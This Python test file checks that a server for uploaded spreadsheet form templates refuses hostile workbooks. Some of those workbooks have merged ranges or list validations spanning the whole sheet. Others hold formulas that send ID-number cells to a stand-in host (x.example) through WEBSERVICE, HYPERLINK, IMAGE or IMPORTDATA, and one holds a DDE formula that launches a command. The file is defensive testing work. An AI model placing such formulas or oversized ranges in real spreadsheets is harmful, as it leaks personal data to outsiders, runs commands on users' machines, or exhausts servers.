"""Templates that a stranger made: what would fill the memory, and what would tell others what is filled in."""

import io
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook
from openpyxl.formatting.rule import Rule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from ops.demo_forms import CARD, GROUPED, LIST
from server.forms.books import Form
from server.tabular.limits import NotRead, Reason


def _book() -> tuple[Workbook, Any]:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["姓名", "性别", "身份证号"])
    return book, sheet


def _bytes(book: Workbook) -> bytes:
    kept = io.BytesIO()
    book.save(kept)
    return kept.getvalue()


def _merged(ref: str, *, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A form with a merged range that openpyxl would not write; its sheet may be kept under another name."""
    made = io.BytesIO()
    book, _ = _book()
    with zipfile.ZipFile(io.BytesIO(_bytes(book))) as source, zipfile.ZipFile(made, "w") as out:
        for name in source.namelist():
            data = source.read(name).replace(b"worksheets/sheet1.xml", part.removeprefix("xl/").encode())
            merges = f'</sheetData><mergeCells count="1"><mergeCell ref="{ref}"/></mergeCells>'
            out.writestr(part if name.endswith("sheet1.xml") else name, data.replace(b"</sheetData>", merges.encode()))
    return made.getvalue()


@pytest.mark.parametrize("ref", ["A5:XFD1048576", "a5:xfd1048576", "$A$5:$Z$100000", "&#65;5:XFD1048576"])
@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/picture.png"])
def test_a_merged_range_of_the_whole_sheet_is_refused_before_it_is_made(ref: str, part: str) -> None:
    with pytest.raises(NotRead) as refused:
        Form(_merged(ref, part=part))
    assert refused.value.reason is Reason.TOO_BIG


def test_a_merged_range_of_a_usual_form_is_read() -> None:
    assert Form(_merged("A5:C5")).titles == ["Sheet"]


def test_a_list_of_the_whole_sheet_is_no_list_and_makes_no_cell() -> None:
    book, sheet = _book()
    for area in ("$A$1:$XFD$1048576", "$A:$XFD", "$1:$1048576"):
        rule: Any = DataValidation(type="list", formula1=area)
        rule.add("B2")
        sheet.add_data_validation(rule)
    hidden: Any = book.create_sheet("码")
    hidden.sheet_state = "hidden"
    hidden["XFD1048576"] = "男"
    rule = DataValidation(type="list", formula1="码!$A$1:$XFD$1048576")
    rule.add("C2")
    sheet.add_data_validation(rule)

    words = [one.words for one in Form(_bytes(book)).allowed(0)]
    assert words == [frozenset({"姓名", "性别", "身份证号"})] * 3


def test_a_form_that_would_grow_beyond_all_measure_is_refused() -> None:
    book, sheet = _book()
    sheet["XFD2"] = "宽"
    form = Form(_bytes(book))
    with pytest.raises(NotRead) as refused:
        form.make_room(0, 2, None, 2_000)
    assert refused.value.reason is Reason.TOO_BIG

    book, sheet = _book()
    sheet["A50000"] = "长"
    form = Form(_bytes(book))
    for title in "123456":
        form.copy_sheet(0, title)
    with pytest.raises(NotRead) as refused:
        form.copy_sheet(0, "7")
    assert refused.value.reason is Reason.TOO_BIG


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x.example/?"&C2)',
        '=IF(C2="","",_xlfn.WEBSERVICE("http://x.example/?"&C2))',
        '=HYPERLINK("http://x.example/?"&C2,"查看")',
        '=HYPERLINK("#"&C2,"查看")',
        '=_xlfn.image("http://x.example/"&C2)',
        '=IMPORTDATA("http://x.example/"&C2)',
        "=cmd|'/c calc'!A0",
    ],
)
def test_a_formula_that_tells_others_is_refused_wherever_it_stands(formula: str) -> None:
    for put in (_in_cell, _as_array, _under_name, _in_rule, _by_look, _out_of_sight):
        book, sheet = _book()
        put(book, sheet, formula)
        with pytest.raises(NotRead) as refused:
            Form(_bytes(book))
        assert refused.value.reason is Reason.TELLS_OTHERS


@pytest.mark.parametrize(
    "formula",
    ["=SUM(A2:A9)", '=HYPERLINK("#代码!A1","代码表")', '=IF(A2="CALL(|)","是","否")', '=RECALL_(A2)&"IMAGE"'],
)
def test_a_formula_that_only_reckons_stays(formula: str) -> None:
    book, sheet = _book()
    _in_cell(book, sheet, formula)
    assert Form(_bytes(book)).text(0, (9, 5)) == formula


@pytest.mark.parametrize("raw", [LIST, CARD, GROUPED])
def test_a_departments_forms_are_read(raw: bytes) -> None:
    assert Form(raw).titles


def _in_cell(_book: Workbook, sheet: Any, formula: str) -> None:
    sheet["E9"] = formula


def _as_array(_book: Workbook, sheet: Any, formula: str) -> None:
    sheet["E9"] = ArrayFormula("E9:E9", formula)


def _under_name(book: Workbook, _sheet: Any, formula: str) -> None:
    book.defined_names["名"] = DefinedName("名", attr_text=formula[1:])


def _in_rule(_book: Workbook, sheet: Any, formula: str) -> None:
    rule: Any = DataValidation(type="custom", formula1=formula[1:])
    rule.add("E9")
    sheet.add_data_validation(rule)


def _by_look(_book: Workbook, sheet: Any, formula: str) -> None:
    sheet.conditional_formatting.add("E9", Rule(type="expression", formula=[formula[1:]]))


def _out_of_sight(book: Workbook, _sheet: Any, formula: str) -> None:
    hidden: Any = book.create_sheet("隐")
    hidden.sheet_state = "veryHidden"
    hidden["A1"] = formula
